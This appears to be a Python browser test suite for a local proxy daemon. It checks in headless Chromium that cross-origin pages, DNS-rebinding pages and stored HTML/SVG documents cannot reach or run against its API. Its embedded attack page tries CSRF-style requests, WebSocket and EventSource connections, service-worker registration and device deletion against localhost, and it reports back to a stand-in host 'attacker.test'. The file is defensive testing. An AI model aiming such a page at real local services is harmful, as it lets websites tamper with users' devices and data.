# SPDX-License-Identifier: Apache-2.0
"""A real browser: pages that try everything against tbproxyd, and documents that would run with its origin."""
import http.server
import json
import os
import shutil
import socket
import subprocess
import tempfile
import threading
import unittest

import tap
from daemon import end_with_parent
from harness import PATIENCE, SLOW, Case, answer
from scripted import PROBES

CHROMIUM = shutil.which("chromium")
# Everything that a page can send. Each try reports what the page learned; "sent" is what it cannot know.
ATTACK = """<!doctype html><meta charset="utf-8"><body><script>
const target = %(target)s, socket = target.replace("http", "ws"), seen = {};
const device = JSON.stringify({name: "made by a page", type: "default"});
const element = (name, attributes) => new Promise(done => {
  const it = Object.assign(document.createElement(name), attributes);
  it.onload = () => done("loaded"); it.onerror = () => done("failed"); document.body.append(it); });
const post = (name, action, method) => new Promise(done => {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = name; document.body.append(frame);
  Object.assign(form, {action, method, enctype: "text/plain", target: name});
  form.innerHTML = "<input name='" + device.slice(0, -1) + ",\\"x\\":\\"' value='\\"}'>"; document.body.append(form);
  frame.onload = () => done("sent"); form.submit(); });
const open = (it, good) => new Promise(done => {
  it[good] = () => done("open"); it.onerror = () => { it.close(); done("failed"); }; });
const read = (path, options) => fetch(target + path, options).then(
  reply => reply.type == "opaque" ? "sent" : String(reply.status), () => "failed");
const tries = {
  fetch: () => read("/api/auth/user"),
  credentials: () => read("/api/auth/user", {credentials: "include"}),
  status: () => read("/-/status"),
  json: () => read("/api/device", {method: "POST", body: device, headers: {"Content-Type": "application/json"}}),
  simple: () => read("/api/device", {method: "POST", body: device, mode: "no-cors"}),
  login: () => read("/api/auth/login", {method: "POST", body: "{}", mode: "no-cors"}),
  blind: () => read("/api/auth/user", {mode: "no-cors", referrerPolicy: "no-referrer"}),
  beacon: async () => navigator.sendBeacon(target + "/api/device", device) ? "sent" : "failed",
  form: () => post("form", target + "/api/device", "post"),
  link: () => post("link", target + "/api/auth/user", "get"),
  image: () => element("img", {src: target + "/api/images/public/x"}),
  script: () => element("script", {src: target + "/api/auth/user"}),
  style: () => element("link", {rel: "stylesheet", href: target + "/api/auth/user"}),
  websocket: () => open(new WebSocket(socket + "/api/ws"), "onopen"),
  plugin: () => open(new WebSocket(socket + "/api/ws/plugins/telemetry"), "onopen"),
  events: () => open(new EventSource(target + "/-/subscribe/DEVICE/%(device)s"), "onopen"),
  worker: () => navigator.serviceWorker ? navigator.serviceWorker.register(target + "/api/images/public/x.js").then(
    () => "open", () => "failed") : "failed",
  remove: () => read("/api/device/%(device)s", {method: "DELETE"}),
};
(async () => {
  for (let i = 0; i < 20 && await read("/-/live") == "404"; i++) {}  // connections to the address before the rebinding
  for (const [name, attempt] of Object.entries(tries)) {
    try { seen[name] = await attempt(); } catch (error) { seen[name] = "failed"; } }
  await fetch(%(report)s, {method: "POST", mode: "no-cors", body: JSON.stringify(seen)});
})();
</script>"""

# The requests of tbproxyd itself.
OWN = {*PROBES, "/api/auth/login"}

# What a page cannot know. All others must fail.
BLIND = {"simple", "login", "blind", "beacon", "form", "link"}


class PageServer(http.server.ThreadingHTTPServer):
    """Serves PAGE, and keeps what the page reports."""

    daemon_threads = True

    def __init__(self):
        self.page = ""
        self.reported = threading.Event()
        self.report = None
        super().__init__(("127.0.0.1", 0), PageHandler)
        threading.Thread(target=self.serve_forever, daemon=True).start()


class PageHandler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        found = self.path == "/"
        body = self.server.page.encode() if found else b""
        self.send_response(200 if found else 404)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)
        if found and self.server.page:
            self.server.page_sent()

    def do_POST(self):
        self.server.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.send_response(204)
        self.end_headers()
        self.server.reported.set()

    def log_message(self, *unused):
        pass


class Rebinder:
    """A port whose connections lead to ADDRESS, which can change, as that of a name does."""

    def __init__(self, address):
        self.address = address
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                one, _ = self.listener.accept()
            except OSError:
                return
            other = socket.create_connection(self.address)
            for pair in ((one, other), (other, one)):
                threading.Thread(target=self.pump, args=pair, daemon=True).start()

    @staticmethod
    def pump(source, sink):
        try:
            while data := source.recv(65536):
                sink.sendall(data)
            sink.shutdown(socket.SHUT_WR)
        except OSError:
            pass


class BrowserCase(Case):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        if CHROMIUM is None or SLOW:
            raise unittest.SkipTest("chromium is not installed" if CHROMIUM is None else "the browser is tried once")

    def chromium(self, *arguments):
        """Starts it with a profile of its own. It reaches nothing but this host."""
        profile = tempfile.mkdtemp(prefix="tb-chromium-")
        self.addCleanup(shutil.rmtree, profile, ignore_errors=True)
        rules = "MAP attacker.test 127.0.0.1, MAP rebound.test 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE localhost"
        process = subprocess.Popen(
            [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
             "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage", "--user-data-dir=" + profile,
             "--host-resolver-rules=" + rules, *arguments],
            stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, preexec_fn=end_with_parent,
            env={**os.environ, "HOME": profile})
        self.addCleanup(process.wait)
        self.addCleanup(process.stdout.close)
        self.addCleanup(process.kill)
        return process


class TestPages(BrowserCase):
    def setUp(self):
        self.sim = self.start_simulator()
        self.device = self.ask("POST", "/api/device", {"name": "not yours", "type": "default"})["id"]["id"]

    def ask(self, method, target, body=None):
        """Asks the server directly."""
        token = self.sim.login()["token"]
        return self.sim.call(method, target, [("X-Authorization", "Bearer " + token)], body).json()

    def start_pages(self):
        pages = PageServer()
        pages.page_sent = lambda: None
        self.addCleanup(pages.server_close)
        self.addCleanup(pages.shutdown)
        return pages

    def attack(self, pages, url, target):
        """Opens the page at URL, which tries everything at TARGET. Returns what it reports, what of it the server was asked
        for, and whether anything has changed there."""
        pages.page = ATTACK % {"target": json.dumps(target), "device": self.device,
                               "report": json.dumps("http://attacker.test:%d/report" % pages.server_port)}
        devices = self.devices()
        self.sim.forget()
        self.chromium(url)
        self.assertTrue(pages.reported.wait(2 * PATIENCE), "the page has not reported")
        reached = [entry["target"] for entry in self.sim.requests() if entry["target"] not in OWN]
        return pages.report, reached, self.devices() != devices

    def devices(self):
        """The ids of all devices on the server."""
        return sorted(device["id"]["id"] for device in self.ask("GET", "/api/tenant/devices?pageSize=100&page=0")["data"])

    def assert_kept_out(self, proxy, result, status, count):
        """Nothing was learned or changed, although at least COUNT requests came and were refused with STATUS."""
        report, reached, changed = result
        known = {name: fate for name, fate in report.items() if name not in BLIND}
        self.assertEqual(set(known.values()) - {str(status)}, {"failed"}, known)  # of its own origin, it may read the status
        self.assertEqual(reached, [])
        self.assertFalse(changed)
        ends = [line.split(" -> ")[1].split(",")[0] for line in proxy.log.lines if " -> " in line and "GET /-/" not in line]
        self.assertGreaterEqual(ends.count(str(status)), count, proxy.log.lines)
        self.assertEqual(set(ends), {str(status)})

    def test_a_page_of_another_origin_is_kept_out(self):
        for name in ("attacker.test", "localhost"):  # another site; the same site, and a secure context
            proxy, pages = self.start_daemon(self.sim), self.start_pages()
            result = self.attack(pages, "http://%s:%d/" % (name, pages.server_port), "http://localhost:%d" % proxy.port)
            self.assert_kept_out(proxy, result, 403, 12)

    def test_a_page_under_a_rebound_name_is_kept_out(self):
        proxy, pages = self.start_daemon(self.sim), self.start_pages()
        rebinder = Rebinder(("127.0.0.1", pages.server_port))
        self.addCleanup(rebinder.listener.close)

        def rebind():
            rebinder.address = proxy.address
        pages.page_sent = rebind
        origin = "http://rebound.test:%d" % rebinder.port
        result = self.attack(pages, origin + "/", origin)
        self.assert_kept_out(proxy, result, 421, 12)

    def test_a_page_that_may_ask_is_let_in(self):
        """The same page, so the others fail for the right reason."""
        pages = self.start_pages()
        origin = "http://localhost:%d" % pages.server_port
        proxy = self.start_daemon(self.sim, {"listen.origins": origin})
        report, reached, changed = self.attack(pages, origin + "/", "http://localhost:%d" % proxy.port)
        self.assertEqual({name: report[name] for name in ("fetch", "status", "json", "websocket", "plugin", "events",
                                                          "credentials", "image", "script", "worker")},
                         {"fetch": "200", "status": "200", "json": "200", "websocket": "open", "plugin": "open",
                          "events": "open", "credentials": "failed", "image": "failed", "script": "failed",
                          "worker": "failed"})
        self.assertIn("/api/device", reached)
        self.assertTrue(changed)


class TestDocuments(BrowserCase):
    def test_a_document_that_somebody_has_stored_does_not_run(self):
        def handle(peer, request):
            kind = "image/svg+xml" if "svg" in request.target else "text/html"
            space = ' xmlns="http://www.w3.org/2000/svg"'
            body = "<%s><script>document.documentElement.setAttribute('class', 'it-' + 'ran')</script></%s>" % (
                ("svg" + space, "svg") if "svg" in request.target else ("html", "html"))
            peer.send(answer(200, body.encode(), [("Content-Type", kind)]))
            return True
        proxy = self.start_daemon(self.start_scripted(handle))
        for path, runs in (("/api/images/public/x", False), ("/api/images/public/svg", False), ("/swagger-ui/x.html", True)):
            browser = self.chromium("--dump-dom", "http://localhost:%d%s" % (proxy.port, path))
            page = browser.communicate(timeout=2 * PATIENCE)[0]
            self.assertIn(b"script", page, path)
            self.assertEqual(b"it-ran" in page, runs, (path, page))


if __name__ == "__main__":
    tap.main()
